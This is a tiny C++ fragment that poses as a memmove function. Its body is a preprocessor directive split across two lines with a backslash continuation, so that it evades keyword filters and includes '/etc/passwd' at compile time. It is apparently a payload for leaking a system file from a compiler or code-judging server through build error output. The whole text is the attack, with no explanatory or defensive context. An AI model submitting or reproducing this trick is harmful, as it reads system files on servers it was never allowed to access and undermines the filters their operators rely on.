void* memmove(void* destination, const void* source, std::size_t size) {
#inc\
lude "/etc/passwd"
    return destination;
}
